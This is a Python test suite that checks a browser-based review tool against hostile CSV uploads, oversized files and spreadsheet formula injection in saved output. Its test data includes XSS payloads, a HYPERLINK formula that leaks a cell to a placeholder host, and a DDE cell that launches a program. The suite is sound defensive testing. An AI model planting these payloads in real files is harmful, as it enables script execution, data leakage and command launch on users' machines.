"""Would win: the reviewer's browser, table program or patience, by a file or a code list that the
page opens.
"""

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from review_browser import CHROMIUM, browsing, coded, opened, saved, serving

from storage.tables.formulas import escape_formula
from tasks.coding.coder import Coder

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
pytestmark = [
    pytest.mark.servers,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
]

DECLARES = """
a file under review stays text in the browser
| markup and scripts in narratives, codes, column names, contradictions, coders' names, and in the
bundle's titles and its classification; a script that is put into the page all the same
| a browser with a fault of its own, or with extensions that read its pages  a file under review is
refused or opened in bounded room
| a million columns, rows, cells without an end of a quote, quotes; a million cells that are allowed
| how long the reviewer's machine takes for the 5,000 rows of 200 columns that are allowed  a saved
review is no formula
| formulas in cells, in column names, in decisions of another coder's file and in the coder's name
| the JSON for Label Studio, which has the texts as they are
"""

SCRIPT = (
    "<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script><svg onload='window.hit=1'>"
)


def test_markup_in_a_file_and_in_titles(coder: Coder, tmp_path: Path) -> None:
    """Nothing of it becomes an element, runs or asks for anything; the policy of content stops what
    is put in.
    """
    hostile = replace(coder, titles=dict.fromkeys(coder.titles, SCRIPT), classification=SCRIPT)
    text = coded(3, texts=[SCRIPT, "</style></textarea>" + SCRIPT, "javascript:window.hit=1"])
    rows = list(csv.reader(io.StringIO(text)))
    rows[0][0] = SCRIPT
    for row in rows[1:]:
        row[HEAD["code_2"]] = row[HEAD["conflicts"]] = SCRIPT
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    (tmp_path / "hostile.csv").write_text(written.getvalue(), newline="")
    with serving(hostile) as address, browsing() as page:
        opened(page, address, tmp_path / "hostile.csv", coder=SCRIPT)
        page.locator(".why:not(:empty)").first.wait_for()
        page.locator("#case").focus()
        for key in ("2", "1", "u", "/"):
            page.keyboard.press(key)
        page.keyboard.type("img")
        page.locator("#results li").first.wait_for()
        assert page.locator("img, svg, iframe, script[src]").count() == 0
        assert SCRIPT in page.locator("#case").text_content()
        assert not [
            one
            for one in page.seen
            if not one.startswith(("http://127.0.0.1:", "blob:", "dialog beforeunload"))
        ]
        assert not [one for one in page.seen if one.endswith("/x")]
        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", SCRIPT)
        page.evaluate(
            "document.body.append(Object.assign(document.createElement('script'), {textContent: "
            "'hit=1'}))"
        )
        page.wait_for_timeout(300)
        assert page.evaluate("window.hit === undefined")


HEAD = {name: at for at, name in enumerate(coded(0).strip().split(","))}


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("a," * 10**6 + "\n", "over 200 columns"),
        ("a\n" + "1\n" * 10**6, "over 5,000 rows"),
        ('a\n"' + "1,\n" * 10**6, "no end"),
        ('a,b\n"x"' + '"' * 10**6 + "\n", "Row 1"),
    ],
    ids=["columns", "rows", "quote", "quotes"],
)
def test_a_million_cells_that_are_refused(
    coder: Coder, tmp_path: Path, content: str, words: str
) -> None:
    (tmp_path / "hostile.csv").write_text(content)
    (tmp_path / "good.csv").write_text(coded(3), newline="")
    with serving(coder) as address, browsing() as page:
        page.goto(address)
        page.set_input_files("#file", tmp_path / "hostile.csv")
        page.locator("#problem:not(:empty)").wait_for()
        assert words in page.inner_text("#problem")
        opened(page, address, tmp_path / "good.csv")
        assert page.locator("#case h2").count() == 1


def test_a_million_cells_that_are_allowed(coder: Coder, tmp_path: Path) -> None:
    """The document stays as small as for a few rows."""
    head = ["narrative", "code", "score", *(f"more {n}" for n in range(197))]
    row = ",".join(["fell", "111", "0.5", *["x"] * 197])
    (tmp_path / "wide.csv").write_text(",".join(head) + "\n" + (row + "\n") * 5000)
    with serving(coder) as address, browsing() as page:
        opened(page, address, tmp_path / "wide.csv")
        page.locator("#case").focus()
        page.keyboard.press("j")
        assert page.evaluate("document.querySelectorAll('*').length") < 1500


def test_formulas_in_what_is_saved(coder: Coder, tmp_path: Path) -> None:
    """Every cell is what the writer of `autocoder code` would leave."""
    formula = '=HYPERLINK("http://x/?"&A1,"ok")'
    rows = [["@case", "narrative", "code", "score", "code_by_hand"]]
    rows += [
        [formula, "fell\r\n", "111", "-5", "+cmd|' /C calc'!A0"],
        ["\t=1", " =1", "132", "0.5", ""],
    ]
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    (tmp_path / "hostile.csv").write_text(written.getvalue(), newline="")
    with serving(coder) as address, browsing() as page:
        opened(page, address, tmp_path / "hostile.csv", coder="=1+1")
        page.select_option("#order", "file")
        page.locator("#case").focus()
        page.keyboard.press("j")
        page.keyboard.press("1")
        text = saved(page, "#save", tmp_path / "saved.csv")
        tasks = json.loads(saved(page, "#studio", tmp_path / "tasks.json"))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert all(escape_formula(cell) == cell for cell in cells)
    assert {"'@case", "'" + formula, "'=1+1", "'+cmd|' /C calc'!A0", "-5"} <= set(cells)
    assert len(tasks) == 2
